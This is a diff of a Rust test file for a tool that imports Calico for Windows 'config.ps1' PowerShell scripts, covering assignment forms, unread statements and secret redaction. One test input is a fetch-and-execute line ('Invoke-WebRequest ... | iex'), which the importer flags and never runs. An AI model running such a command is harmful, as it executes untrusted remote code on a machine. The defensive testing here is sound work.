@@ -1,4 +1,4 @@
-//! What people have in a `config.ps1`, and what comes of it.
+//! What people have in a `config.ps1`, and what the import makes of it.
 
 use super::*;
 use crate::calico::samples;
@@ -14,7 +14,7 @@ fn read(script: &str) -> Imported {
     import(script, &Source::file("config.ps1")).unwrap()
 }
 
-/// The document, which must be one that this program takes.
+/// Returns the document, which must be valid for this program.
 #[track_caller]
 fn text(imported: &Imported) -> String {
     let text = imported.text("config.ps1");
@@ -24,7 +24,7 @@ fn text(imported: &Imported) -> String {
     text
 }
 
-/// Only what is set and what could not be, of a script of a few lines.
+/// Returns only what is set, and what could not be, for a script of a few lines.
 fn short(script: &str) -> String {
     let imported = read(script);
     let value = |path: &str| path.split('.').fold(&imported.document, |here, part| &here[part]).to_string();
@@ -82,7 +82,7 @@ fn plain_assignments_as_in_v3_20_to_v3_22() {
         startupValidIPTimeout: 90s
         logDir: C:\CalicoWindows\logs
     "#);
-    // v3.20 came with Windows' line ends.
+    // v3.20 had Windows line ends.
     assert_eq!(read(&ASSIGNMENTS.replace('\n', "\r\n")).document, read(ASSIGNMENTS).document);
 }
 
@@ -130,7 +130,7 @@ fn set_if_absent_as_in_v3_23_to_v3_33() {
 }
 
 #[test]
-fn what_hostprocess_containers_have_as_in_v3_27_and_later() {
+fn hostprocess_scripts_as_in_v3_27_and_later() {
     insta::assert_snapshot!(text(&read(HOSTPROCESS)), @r#"
     # Read from config.ps1 by calicoctl-win. What is not set here is detected, or has its default.
     # Not in it: which release. Set spec.calico.version, or use --release.
@@ -154,8 +154,127 @@ fn what_hostprocess_containers_have_as_in_v3_27_and_later() {
     "#);
 }
 
+/// A variable, what people write for it, and its value in the document.
+const EDITS: [(&str, &str, &str, &str); 23] = [
+    ("KUBE_NETWORK", "azure.*", "calicoNetwork.kubeNetwork", r#""azure.*""#),
+    ("CALICO_NETWORKING_BACKEND", "windows-bgp", "calicoNetwork.backend", r#""windows-bgp""#),
+    ("K8S_SERVICE_CIDR", "10.112.0.0/12", "kubernetes.serviceCIDRs", r#"["10.112.0.0/12"]"#),
+    ("DNS_NAME_SERVERS", "10.112.0.10, 10.112.0.11", "kubernetes.dns.servers", r#"["10.112.0.10","10.112.0.11"]"#),
+    ("DNS_SEARCH", "svc.corp.example", "kubernetes.dns.search", r#"["svc.corp.example"]"#),
+    ("CALICO_DATASTORE_TYPE", "etcdv3", "datastore.type", r#""etcdv3""#),
+    ("ETCD_ENDPOINTS", "http://etcd-7:2379", "datastore.etcd.endpoints", r#"["http://etcd-7:2379"]"#),
+    ("ETCD_KEY_FILE", r"D:\own keys\k.pem", "datastore.etcd.keyFile", r#""D:\\own keys\\k.pem""#),
+    ("ETCD_CERT_FILE", r"D:\own keys\c.pem", "datastore.etcd.certFile", r#""D:\\own keys\\c.pem""#),
+    ("ETCD_CA_CERT_FILE", r"D:\own keys\ca.pem", "datastore.etcd.caCertFile", r#""D:\\own keys\\ca.pem""#),
+    ("CNI_BIN_DIR", r"C:\Program Files\cni\bin", "windowsNodes.cniBinDir", r#""C:\\Program Files\\cni\\bin""#),
+    ("CNI_CONF_DIR", r"C:\Program Files\cni\conf", "windowsNodes.cniConfigDir", r#""C:\\Program Files\\cni\\conf""#),
+    ("CNI_CONF_FILENAME", "00-calico.conf", "windowsNodes.cniConfigFile", r#""00-calico.conf""#),
+    ("CNI_IPAM_TYPE", "host-local", "calicoNetwork.ipam.type", r#""host-local""#),
+    ("VXLAN_VNI", "5007", "calicoNetwork.vxlan.vxlanVNI", "5007"),
+    ("VXLAN_MAC_PREFIX", "0E-3B", "calicoNetwork.vxlan.vxlanMACPrefix", r#""0E-3B""#),
+    ("VXLAN_ADAPTER", "vEthernet (LAN; #2)", "calicoNetwork.vxlan.vxlanAdapter", r#""vEthernet (LAN; #2)""#),
+    ("NODENAME", "ip-10-0-0-7.ec2.internal", "kubernetes.nodeName", r#""ip-10-0-0-7.ec2.internal""#),
+    ("STARTUP_VALID_IP_TIMEOUT", "120", "services.startupValidIPTimeout", r#""120s""#),
+    ("IP", "10.0.0.7/24", "calicoNetwork.nodeAddress", r#""10.0.0.7/24""#),
+    ("CALICO_LOG_DIR", r"D:\my logs", "services.logDir", r#""D:\\my logs""#),
+    ("FELIX_LOGSEVERITYSCREEN", "debug", "services.felixLogSeverity", r#""debug""#),
+    ("BGP_LOGSEVERITYSCREEN", "debug", "services.extraEnv.BGP_LOGSEVERITYSCREEN", r#""debug""#),
+];
+
+fn field(imported: &Imported, path: &str) -> String {
+    path.split('.').fold(&imported.document["spec"], |here, part| &here[part]).to_string()
+}
+
 #[test]
-fn strings_are_taken_as_powershell_takes_them() {
+fn every_form_of_line_that_calico_shipped_is_read_with_every_edit() {
+    for (variable, value, path, wanted) in EDITS {
+        let plain = value.bytes().all(|b| b.is_ascii_digit());
+        let word = value.bytes().all(|b| b.is_ascii_alphanumeric() || b"-./:*".contains(&b))
+            && (plain || !value.starts_with('0'));
+        let quoted = [format!("\"{value}\""), format!("'{value}'")];
+        let assigned = quoted.iter().cloned().chain(plain.then(|| value.to_owned()));
+        let given = quoted.iter().cloned().chain(word.then(|| value.to_owned()));
+        let mut lines = Vec::new();
+        for value in assigned {
+            lines.push(format!("$env:{variable} = {value}"));
+            lines.push(format!("$env:{variable}={value}"));
+            lines.push(format!("\t${{Env:{variable}}}  =  {value}  "));
+        }
+        for value in given {
+            lines.push(format!("Set-EnvVarIfNotSet -var \"{variable}\" -defaultValue {value}"));
+            lines.push(format!("  set-envvarifnotset  -Var '{variable}'  -DefaultValue {value}  "));
+            lines.push(format!("Set-EnvVarIfNotSet {variable} {value}"));
+        }
+        lines.extend(lines.clone().iter().map(|line| format!("{line} # it's \"ours\" (see above")));
+        for line in lines {
+            let etcd = if variable.starts_with("ETCD") {
+                "$env:CALICO_DATASTORE_TYPE = 'etcdv3'\n$env:ETCD_ENDPOINTS = 'http://e:1'\n$env:ETCD_KEY_FILE = 'D:\\k'\n\
+                 $env:ETCD_CERT_FILE = 'D:\\c'\n$env:ETCD_CA_CERT_FILE = 'D:\\a'\n"
+            } else if variable == "CALICO_DATASTORE_TYPE" {
+                "$env:ETCD_ENDPOINTS = 'http://e:1'\n"
+            } else if value == "host-local" {
+                "$env:CALICO_NETWORKING_BACKEND = 'none'\n"
+            } else {
+                ""
+            };
+            let line = line.replace("Set-EnvVarIfNotSet", &format!("$env:{variable} = ''\nSet-EnvVarIfNotSet"));
+            let line = line.replace("set-envvarifnotset", &format!("$env:{variable} = ''\nset-envvarifnotset"));
+            let lf = format!("# CALICO_, a ' and a {{\n{etcd}{line}\n$env:KUBE_NET = \"after\"");
+            for script in [lf.clone(), lf.replace('\n', "\r\n"), format!("\u{feff}{lf}\r\n\r\n")] {
+                let imported = read(&decode("config.ps1", script.as_bytes()).unwrap());
+                assert_eq!(imported.unread, [], "{script}");
+                assert_eq!(field(&imported, path), wanted, "{script}");
+                assert_eq!(field(&imported, "services.extraEnv.KUBE_NET"), "\"after\"", "{script}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_whole_file_is_read_with_the_edits_of_the_installer_and_of_people() {
+    // A file before anybody edits it.
+    let shipped = |script: &str| {
+        [
+            ("10.96.0.0/12", "<your service cidr>"),
+            ("10.100.0.0/16", "<your service cidr>"),
+            ("10.96.0.10, 10.96.0.11", "<your dns server ips>"),
+            ("10.100.0.10", "<your dns server ips>"),
+            ("\"etcdv3\"", "\"<your datastore type>\""),
+            ("\"kubernetes\"", "\"<your datastore type>\""),
+        ]
+        .into_iter()
+        .fold(script.to_owned(), |script, (value, placeholder)| script.replace(value, placeholder))
+    };
+    for script in [ASSIGNMENTS, SET_IF_ABSENT, HOSTPROCESS].map(shipped) {
+        assert_eq!(read(&script).unread, [], "{script}");
+        for (variable, value, path, wanted) in EDITS {
+            // Its own lines of the script, whatever their values.
+            let sets = |line: &str| {
+                let line = line.trim_start();
+                line.starts_with(&format!("$env:{variable} ")) || line.starts_with(&format!("$env:{variable}="))
+            };
+            let gives = |line: &str| line.trim_start().starts_with(&format!("Set-EnvVarIfNotSet -var \"{variable}\""));
+            if variable.starts_with("ETCD") || !script.lines().any(|line| sets(line) || gives(line)) {
+                continue;
+            }
+            let lines = script.lines().map(|line| match line {
+                line if sets(line) => format!("$env:{variable} = '{value}'"),
+                line if gives(line) => format!("Set-EnvVarIfNotSet -var \"{variable}\" -defaultValue \"{value}\""),
+                line if value == "etcdv3" && line.contains("ETCD_") && line.contains("_FILE") => String::new(),
+                line if value == "etcdv3" && line.contains("ETCD_E") => "$env:ETCD_ENDPOINTS = 'http://e:1'".into(),
+                line if value == "host-local" && line.contains("_BACKEND") => "# $env:X = 1".into(),
+                line => line.to_owned(),
+            });
+            let edited = lines.collect::<Vec<_>>().join("\r\n");
+            let imported = read(&edited);
+            assert_eq!(imported.unread, [], "{edited}");
+            assert_eq!(field(&imported, path), wanted, "{variable}: {edited}");
+        }
+    }
+}
+
+#[test]
+fn a_text_is_read_as_powershell_reads_it_or_listed() {
     insta::assert_snapshot!(short(
         "$env:A = \"a`tb`\"c\"\"d`$e\"\n\
          $env:B = 'it''s $env:A `n'\n\
@@ -173,29 +292,34 @@ fn strings_are_taken_as_powershell_takes_them() {
          $env:O = Join-Path $PSScriptRoot 'logs'\n\
          $env:P = ('a', 'b') -join ';'\n\
          $env:P += '!'\n\
+         $env:Q = \"a`\"b\"\"c`$e\"; $env:R = \"$name-${name}-${env:B}\\x$\"\n\
          $env:VXLAN_VNI = 4096\n"
     ), @r#"
     spec.calicoNetwork.vxlan.vxlanVNI = 4096
-    spec.services.extraEnv.A = "a\tb\"c\"d$e"
     spec.services.extraEnv.B = "it's $env:A `n"
     spec.services.extraEnv.C = "curly"
-    spec.services.extraEnv.D = "x-x-it's $env:A `n"
-    spec.services.extraEnv.E = "line 'one'\n\"two\""
-    spec.services.extraEnv.F = "at x"
-    spec.services.extraEnv.G = "abc"
-    spec.services.extraEnv.H = "next line"
     spec.services.extraEnv.I = "cost: 5$, #1"
     spec.services.extraEnv.K = "k"
     spec.services.extraEnv.L = "True"
-    spec.services.extraEnv.M = "5000"
-    spec.services.extraEnv.N = "trim me"
-    spec.services.extraEnv.O = "C:\\CalicoWindows\\logs"
-    spec.services.extraEnv.P = "a;b!"
+    spec.services.extraEnv.Q = "a\"b\"c$e"
+    spec.services.extraEnv.R = "x-x-it's $env:A `n\\x$"
+    unread line 1: `$env:A = "a`tb`"c""d`$e"`: an expression that this program does not evaluate
+    unread line 4: `${env:D} = "$name-${name}-$($env:B)"`: an expression that this program does not evaluate
+    unread line 5: `$env:E = @' ...`: an expression that this program does not evaluate
+    unread line 9: `$env:F = @" ...`: an expression that this program does not evaluate
+    unread line 12: `$env:G = "a" + 'b' +`: an expression that this program does not evaluate
+    unread line 13: `"c"`: an expression that this program does not evaluate
+    unread line 14: `$env:H = ` ...`: an expression that this program does not evaluate
+    unread line 19: `$env:M = 0x1388`: an expression that this program does not evaluate
+    unread line 20: `$env:N = " Trim Me ".Trim().ToLower()`: an expression that this program does not evaluate
+    unread line 21: `$env:O = Join-Path $PSScriptRoot 'logs'`: a word without quotes is a command to PowerShell, not a text
+    unread line 22: `$env:P = ('a', 'b') -join ';'`: an expression that this program does not evaluate
+    unread line 23: `$env:P += '!'`: an expression that this program does not evaluate
     "#);
 }
 
 #[test]
-fn the_older_and_the_odder_ways_of_setting_are_read() {
+fn unusual_ways_of_setting_are_listed() {
     insta::assert_snapshot!(short(
         "Set-EnvVarIfNotSet \"VXLAN_VNI\" 5001\n\
          set-envvarifnotset -DEFAULTVALUE:windows-bgp -Var:CALICO_NETWORKING_BACKEND\n\
@@ -206,43 +330,40 @@ fn the_older_and_the_odder_ways_of_setting_are_read() {
          $env:FELIX_LOGSEVERITYSCREEN = \"Warning\"\n\
          $ENV:kube_network = 'Calico.*'\n"
     ), @r#"
-    spec.kubernetes.nodeName = "auto"
-    spec.calicoNetwork.backend = "windows-bgp"
     spec.calicoNetwork.kubeNetwork = "Calico.*"
-    spec.calicoNetwork.nodeAddress = "10.0.0.7/24"
-    spec.calicoNetwork.ipam.type = "host-local"
     spec.calicoNetwork.vxlan.vxlanVNI = 5001
     spec.services.startupValidIPTimeout = "0"
     spec.services.felixLogSeverity = "warning"
+    unread line 2: `set-envvarifnotset -DEFAULTVALUE:windows-bgp -Var:CALICO_NETWORKING_BACKEND`: a command that this program does not know, and never runs; it may set CALICO_NETWORKING_BACKEND
+    unread line 3: `[Environment]::SetEnvironmentVariable("IP", "10.0.0.7/24")`: a command that this program does not know, and never runs; it may set IP
+    unread line 4: `[System.Environment]::SetEnvironmentVariable('CNI_IPAM_TYPE', 'host-local', 'Pro ...`: a command that this program does not know, and never runs; it may set CNI_IPAM_TYPE
+    unread line 5: `Set-Item -Path env:NODENAME -Value ([System.Net.Dns]::GetHostName()).ToLower()`: a command that this program does not know, and never runs; it may set NODENAME
     "#);
 }
 
 #[test]
-fn b22_arrays_and_lists_of_dns_servers_are_told() {
+fn b22_arrays_and_lists_of_dns_servers_are_reported() {
     insta::assert_snapshot!(short(
         "$env:DNS_NAME_SERVERS = @(\"10.96.0.10\", \" 10.96.0.11 \")\n\
          $env:K8S_SERVICE_CIDR = '10.96.0.0/12', '10.200.0.0/16'\n"
     ), @r#"
-    spec.kubernetes.serviceCIDRs = ["10.96.0.0/12","10.200.0.0/16"]
-    spec.kubernetes.dns.servers = ["10.96.0.10","10.96.0.11"]
-    note line 1: DNS_NAME_SERVERS is an array, of which PowerShell made the text `System.Object[]` for Calico; here it is `10.96.0.10, 10.96.0.11 `
-    note line 2: K8S_SERVICE_CIDR is an array, of which PowerShell made the text `System.Object[]` for Calico; here it is `10.96.0.0/12,10.200.0.0/16`
+    unread line 1: `$env:DNS_NAME_SERVERS = @("10.96.0.10", " 10.96.0.11 ")`: an array, of which PowerShell makes the text `System.Object[]`; write its items as one text with commas
+    unread line 2: `$env:K8S_SERVICE_CIDR = '10.96.0.0/12', '10.200.0.0/16'`: an array, of which PowerShell makes the text `System.Object[]`; write its items as one text with commas
     "#);
     insta::assert_snapshot!(short(
         "Set-EnvVarIfNotSet -var DNS_NAME_SERVERS -defaultValue 10.96.0.10,10.96.0.11\n\
          $env:K8S_SERVICE_CIDR = \"System.Object[]\"\n\
          $env:DNS_SEARCH = \"svc.corp.example , corp.example\"\n"
     ), @r#"
-    spec.kubernetes.dns.servers = ["10.96.0.10","10.96.0.11"]
     spec.kubernetes.dns.search = ["svc.corp.example","corp.example"]
-    note line 1: DNS_NAME_SERVERS is an array, of which PowerShell made the text `System.Object[]` for Calico; here it is `10.96.0.10,10.96.0.11`
     note line 3: DNS_SEARCH was read by nobody; from now on it is what pods get
+    unread line 1: `Set-EnvVarIfNotSet -var DNS_NAME_SERVERS -defaultValue 10.96.0.10,10.96.0.11`: an array, of which PowerShell makes the text `System.Object[]`; write its items as one text with commas
     unread line 2: K8S_SERVICE_CIDR is `System.Object[]`, which PowerShell makes of an array: its items are lost; write them as one text with commas
     "#);
 }
 
 #[test]
-fn b4_a_foreign_kubeconfig_is_told() {
+fn b4_a_foreign_kubeconfig_is_reported() {
     insta::assert_snapshot!(short("$env:KUBECONFIG = \"c:\\k\\config\"\n$env:VXLAN_VNI = 4096\n"), @r#"
     spec.calicoNetwork.vxlan.vxlanVNI = 4096
     note line 1: KUBECONFIG is `c:\k\config`, so Calico had the rights of whoever that belongs to; from now on the node has a kubeconfig of its own, C:\CalicoWindows\calico-kube-config
@@ -259,7 +380,7 @@ fn b4_b5_no_variable_of_the_machine_is_read() {
 }
 
 #[test]
-fn what_cannot_be_judged_is_listed_with_its_line() {
+fn statements_that_cannot_be_read_are_listed_with_their_line() {
     insta::assert_snapshot!(short(
         "$env:VXLAN_VNI = 4097\n\
          if ($env:COMPUTERNAME -like 'a*') {\n  $env:VXLAN_VNI = 4098\n} elseif ($x) {\n  Set-EnvVarIfNotSet -var \"IP\" -defaultValue \"none\"\n}\n\
@@ -275,16 +396,15 @@ fn what_cannot_be_judged_is_listed_with_its_line() {
          $env:MY_TOKEN = $unknown\n\
          ipmo c:\\k\\helper.psm1\n"
     ), @r#"
-    spec.calicoNetwork.vxlan.vxlanVNI = 4097
     unread line 2: `if ($env:COMPUTERNAME -like 'a*') { ...`: it depends on what happens when the script runs; it may set VXLAN_VNI, IP
     unread line 7: `foreach ($i in 1..3) { $env:IP = $i }`: it depends on what happens when the script runs; it may set IP
     unread line 8: `function Get-Name { ...`: it depends on what happens when the script runs
-    unread line 11: `$env:NODENAME = Get-Name`: `Get-Name` is a command to PowerShell; a text has quotes
-    unread line 12: `$env:IP = (Get-NetIPAddress)[0].IPAddress`: `Get-NetIPAddress` is a command to PowerShell; a text has quotes
-    unread line 13: `$env:CALICO_NETWORKING_BACKEND = vxlan`: `vxlan` is a command to PowerShell; a text has quotes
+    unread line 11: `$env:NODENAME = Get-Name`: a word without quotes is a command to PowerShell, not a text
+    unread line 12: `$env:IP = (Get-NetIPAddress)[0].IPAddress`: an expression that this program does not evaluate
+    unread line 13: `$env:CALICO_NETWORKING_BACKEND = vxlan`: a word without quotes is a command to PowerShell, not a text
     unread line 14: `. $PSScriptRoot\more.ps1`: a command that this program does not know, and never runs
     unread line 15: `Invoke-WebRequest http://example.org | iex`: a command that this program does not know, and never runs
-    unread line 16: `[Environment]::SetEnvironmentVariable('IP', '10.0.0.1', 'Machine')`: it sets a variable of the whole machine or user, not one of Calico's
+    unread line 16: `[Environment]::SetEnvironmentVariable('IP', '10.0.0.1', 'Machine')`: a command that this program does not know, and never runs; it may set IP
     unread line 17: ETCD_PASSWORD holds a secret, which has no place in this document
     unread line 18: `$env:MY_TOKEN = ***`: the value of $unknown is not known
     unread line 19: `ipmo c:\k\helper.psm1`: a module that this program does not know
@@ -292,7 +412,7 @@ fn what_cannot_be_judged_is_listed_with_its_line() {
 }
 
 #[test]
-fn values_that_calico_could_not_take_are_listed_with_their_line() {
+fn values_that_calico_would_reject_are_listed_with_their_line() {
     insta::assert_snapshot!(short(
         "$env:VXLAN_VNI = 9999\n\
          $env:CALICO_NETWORKING_BACKEND = 'bgp'\n\
@@ -324,7 +444,7 @@ fn values_that_calico_could_not_take_are_listed_with_their_line() {
 }
 
 #[test]
-fn a_script_that_powershell_would_refuse_is_read_up_to_there() {
+fn a_script_that_powershell_would_refuse_is_read_up_to_the_error() {
     for (script, line) in [
         ("$env:VXLAN_VNI = 4097\n$env:IP = \"10.0.0.1\n$env:NODENAME = 'a'\n", 2),
         ("$env:VXLAN_VNI = 4097\n\n$env:IP = 'x\n", 3),
@@ -343,7 +463,7 @@ fn a_script_that_powershell_would_refuse_is_read_up_to_there() {
 }
 
 #[test]
-fn every_beginning_of_a_script_is_read_without_harm() {
+fn every_prefix_of_a_script_is_read_without_a_panic() {
     for script in [ASSIGNMENTS, SET_IF_ABSENT, "$a = @\"\n$(x)\n\"@; $env:X = \"$($a)`\"${b}\" <# é #> -join @('é')"]
     {
         for (end, _) in script.char_indices() {
@@ -373,7 +493,7 @@ fn only_a_node_without_containerd_has_the_other_folders() {
 }
 
 #[test]
-fn bytes_become_text_as_powershell_reads_them() {
+fn bytes_are_decoded_as_powershell_decodes_them() {
     let wide = |big: bool| {
         let mark: &[u8] = if big { &[0xfe, 0xff] } else { &[0xff, 0xfe] };
         let units =
@@ -402,7 +522,7 @@ fn bytes_become_text_as_powershell_reads_them() {
     for text in ["", "# nothing\n", "Write-Host hello\n", "$env:PATH2 = 'x'\n"] {
         assert_eq!(import(text, &Source::file("x.ps1")).unwrap_err().id, "ConfigPs1Unreadable", "{text}");
     }
-    // A code page that nobody names: harmless in a comment, not in a value.
+    // An unknown code page: harmless in a comment, not in a value.
     let text = decode("config.ps1", b"# \xe4\n$env:VXLAN_VNI = 4097\n$env:VXLAN_ADAPTER = 'Netz \xe4'\n").unwrap();
     insta::assert_snapshot!(short(&text), @r#"
     spec.calicoNetwork.vxlan.vxlanVNI = 4097
@@ -411,7 +531,7 @@ fn bytes_become_text_as_powershell_reads_them() {
 }
 
 #[test]
-fn no_text_of_the_script_gets_out_of_its_comment() {
+fn no_text_of_the_script_escapes_its_comment() {
     let script = "$env:VXLAN_VNI = 4097\nfoo \u{85}spec: {} \u{2028}kind: Other \u{1b}[31m\n";
     let text = read(script).text("x\ny.ps1");
     let comments = text.split('\n').take_while(|line| !line.starts_with("apiVersion"));
@@ -427,11 +547,13 @@ fn no_secret_is_repeated() {
          $env:CALICO_DATASTORE_TYPE = 'etcdv3'\n$env:ETCD_ENDPOINTS = 'https://me:hunter2@etcd:2379'\n",
     );
     assert_eq!(imported.unread.len(), 4, "{:?}", imported.unread);
+    let command = read("$env:VXLAN_VNI = 4097\n$env:ETCD_PASSWORD = hunter2\nSet-Login -Password hunter2\n");
+    assert!(!format!("{command:?}").contains("hunter2"), "{command:?}");
     assert!(!imported.text("config.ps1").contains("hunter2"), "{}", imported.text("config.ps1"));
 }
 
 #[test]
-fn what_runs_wins_over_what_the_script_says() {
+fn the_running_state_wins_over_the_script() {
     let mut source = Source::file("config.ps1");
     source.root = WinPath::known(r"D:\Calico");
     source.environment = vec![("IP".into(), "10.1.2.3".into())];
@@ -495,7 +617,7 @@ fn what_runs_wins_over_what_the_script_says() {
     "#);
 }
 
-/// The parts of settings that a `config.ps1` carries.
+/// The settings that a `config.ps1` contains.
 fn carried(settings: &Settings) -> Settings {
     let mut part = samples::settings("v3.30.3");
     part.node_name = settings.node_name.clone();
@@ -512,7 +634,7 @@ fn carried(settings: &Settings) -> Settings {
 }
 
 #[test]
-fn our_own_config_ps1_comes_back_as_the_same_settings() {
+fn our_own_config_ps1_is_imported_as_the_same_settings() {
     let facts: Facts = serde_json::from_str(include_str!("../../../tests/fixtures/facts/server-2022.json")).unwrap();
     for version in ["v3.20.0", "v3.30.3", "v3.33.0"] {
         for backend in [Backend::Vxlan, Backend::WindowsBgp, Backend::None] {
@@ -538,5 +660,68 @@ fn our_own_config_ps1_comes_back_as_the_same_settings() {
                 assert_eq!(carried(&resolved.settings), carried(&settings));
             }
         }
+    }
+}
+
+#[test]
+fn no_value_is_imported_that_calico_may_not_use() {
+    // Calico may accept `IP` or not, or another one.
+    let read = |line: &str| {
+        let imported = read(&format!("$env:VXLAN_VNI = 4097\n{line}\n"));
+        let nothing = imported.document["spec"]["calicoNetwork"]["nodeAddress"].is_null()
+            && imported.document["spec"]["kubernetes"].is_null()
+            && imported.document["spec"]["windowsNodes"].is_null()
+            && imported.document["spec"]["services"].is_null();
+        assert!(nothing, "{line}: {:#}", imported.document);
+        imported.unread.iter().map(ToString::to_string).collect::<Vec<_>>()
+    };
+    for line in [
+        "$x = $env:IP = '10.0.0.1'",
+        "$x = & { $env:IP = '10.0.0.1' }",
+        "$x = $(Set-EnvVarIfNotSet -var 'IP' -defaultValue '10.0.0.1')",
+        "Write-Host ($env:IP = '10.0.0.1')",
+        "Write-Host \"$($env:IP = '10.0.0.1')\"",
+        "ipmo .\\libs\\calico\\calico.psm1 ($env:IP = '10.0.0.1')",
+        "$env:NODENAME = Get-ContainerdCniBinDir",
+        "$env:CNI_BIN_DIR = $(hostname).ToLower()",
+        "$env:CNI_CONF_DIR = Get-ContainerdCniBinDir",
+        "$env:NODENAME = \"$(hostname)-a\"",
+        "Set-EnvVarIfNotSet -var \"IP\" -defaultValue hostname -Verbose",
+        "Set-EnvVarIfNotSet -var \"IP\" -defaultValue '10.0.0.1' | Out-Null",
+        "$env:STARTUP_VALID_IP_TIMEOUT = 1e2",
+        "$env:STARTUP_VALID_IP_TIMEOUT = 090",
+        "$env:IP = '10.0.0.1' -replace '1', '2'",
+        "$env:IP = \"10.0.0.1\".Trim()",
+        "$env:IP = if ($x) { '10.0.0.1' } else { '10.0.0.2' }",
+        "if ($env:X -EQ \"a\") { $env:IP = '10.0.0.1' }",
+        "if (Get-IsContainerdRunning -or $x) { $env:IP = '10.0.0.1' }",
+        "if (Get-IsContainerdRunning) { $env:IP = $x } elseif ($y) { }",
+        "try { $env:IP = '10.0.0.1' }\ncatch { }\nfinally { }",
+        "$env:IP = '10.0.0.1'\nif ($x) { $env:IP = '10.0.0.2' }",
+        "$env:IP = '10.0.0.1'\nRemove-Item env:IP",
+        "$env:IP = '10.0.0.1'\n$env:IP += '/24'",
+        "$env:IP = '10.0.0.1'\n$env:IP = Get-Address",
+        "if ($x) { $env:IP = '10.0.0.2' }\nSet-EnvVarIfNotSet -var \"IP\" -defaultValue '10.0.0.1'",
+        "$a = 'x'\nif ($x) { $a = 'y' }\n$env:NODENAME = $a",
+        "return\n$env:IP = '10.0.0.1'",
+        "Write-Host 'a'; exit 1; $env:IP = '10.0.0.1'",
+        "@'\n$env:IP = '10.0.0.1'\n'@",
+        "Get-Content x | % {\n$env:IP = '10.0.0.1'\n}",
+        "function f\n{\n$env:IP = '10.0.0.1'\n}",
+        "& {\n$env:IP = '10.0.0.1'\n}",
+    ] {
+        assert!(!read(line).is_empty(), "{line}: nothing is told");
+    }
+    let lines = |text| self::read(text).unread.iter().map(|remark| remark.line).collect::<Vec<_>>();
+    let blocks = "<# CNI_\n #> if (Get-IsContainerdRunning) # {\n\n{\n  $a = <#\n#> b; $env:IP = $x\n}\n# else\n \
+                  else {\n'\n'\n}\n. x";
+    assert_eq!(lines(blocks), [5, 6, 10, 13].map(Some));
+    let without_type =
+        self::read("if ($x) { $env:CALICO_DATASTORE_TYPE = 'etcdv3' }\n$env:ETCD_ENDPOINTS = 'http://e:1'\n");
+    assert_eq!((without_type.notes.len(), without_type.unread.len()), (0, 2), "{without_type:?}");
+    for line in
+        ["<#\n$env:IP = '10.0.0.1'\n#>", "# <#", "Write-Host \"a ($env:IP) #>\" # '", "$ErrorActionPreference = 'Stop'"]
+    {
+        assert_eq!(read(line), [""; 0], "{line}");
     }
 }
